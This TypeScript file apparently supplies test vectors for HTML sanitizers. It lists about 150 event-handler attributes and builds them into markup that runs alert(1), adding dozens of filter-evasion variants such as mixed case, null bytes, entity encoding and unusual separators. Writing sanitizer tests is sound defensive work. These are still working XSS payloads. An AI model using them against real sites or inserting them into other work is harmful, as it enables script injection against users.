/**
 * Markup that runs script by itself or through a handler. After the vector collections of the OWASP cheat sheet on
 * filter evasion, html5sec.org and the PortSwigger list of event handlers, and the test suites of DOMPurify,
 * sanitize-html, bleach and Angular; written anew in one style.
 */
const eventAttributes = (
  "onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart " +
  "onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute " +
  "onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose " +
  "oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut " +
  "ondblclick ondrag ondragend ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onend " +
  "onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange onfullscreenerror " +
  "ongesturechange ongestureend ongesturestart ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress " +
  "onkeyup onlanguagechange onload onloadeddata onloadedmetadata onloadstart onlostpointercapture onmessage " +
  "onmessageerror onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel " +
  "onmozfullscreenchange onoffline ononline onpagehide onpagereveal onpageshow onpageswap onpaste onpause onplay " +
  "onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover " +
  "onpointerrawupdate onpointerup onpopstate onprogress onpropertychange onratechange onreadystatechange " +
  "onrejectionhandled onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onscrollsnapchanging onsearch " +
  "onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled " +
  "onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart " +
  "ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange " +
  "onwaiting onwebkitanimationend onwebkitmouseforcechanged onwebkittransitionend onwheel onwebkitplaybacktargetavailabilitychanged"
).split(" ")

export const handlers: ReadonlyArray<string> = [
  ...eventAttributes.flatMap((name) => [
    `<div ${name}="alert(1)">x</div>`,
    `<svg ${name.toUpperCase()}=alert(1)></svg>`,
    `<svg><g ${name}="alert(1)"></g></svg>`
  ]),
  "<img src=x onerror=alert(1)>",
  "<img src=x OnErRoR=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img\u000csrc=x\u000conerror=alert(1)>",
  "<img src=x\nonerror\n=\nalert(1)>",
  "<img src='x'onerror='alert(1)'>",
  "<img src=x onerror=alert`1`>",
  "<img src=x onerror=&#97;lert(1)>",
  "<img src=x onerror=\\u0061lert(1)>",
  '<img src="x" onerror="&#0000106avascript:alert(1)">',
  "<img src=x:x onerror=alert(1)//",
  "<image src=x onerror=alert(1)>",
  "<image/src=x/onerror=alert(1)>",
  "<video src=x onerror=alert(1)></video>",
  "<video><source onerror=alert(1)></video>",
  "<audio src onloadstart=alert(1)></audio>",
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>x</body>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<div popover id=x onbeforetoggle=alert(1)>y</div><button popovertarget=x>z</button>",
  "<a id=x tabindex=1 onfocus=alert(1)></a>",
  '<p style="animation: x 1s" onanimationstart="alert(1)">x</p>',
  '<form onformdata="alert(1)"><button>x</button></form>',
  '<iframe src="https://frame.example/" onload="alert(1)"></iframe>',
  '<iframe onload="alert(1)"></iframe>',
  "<marquee onstart=alert(1)>x</marquee>",
  "<object data=x onerror=alert(1)></object>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  '<mk-component name="x" onclick="alert(1)"></mk-component>',
  '<x onclick="alert(1)">x</x>',
  '<p xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="javascript:alert(1)">x</p>',
  '<p formaction="javascript:alert(1)">x</p>',
  '<b/**/onclick="alert(1)">x</b>',
  '<b "onclick="alert(1)">x</b>',
  "<b '' onclick=alert(1)>x</b>",
  '<b a="b"onclick="alert(1)">x</b>',
  "<b onclick\u0000=alert(1)>x</b>",
  "<b \u0000onclick=alert(1)>x</b>",
  "<b onclick&#x3d;alert(1)>x</b>",
  "<b =onclick=alert(1)>x</b>",
  '<b onclick ="alert(1)">x</b>'
]
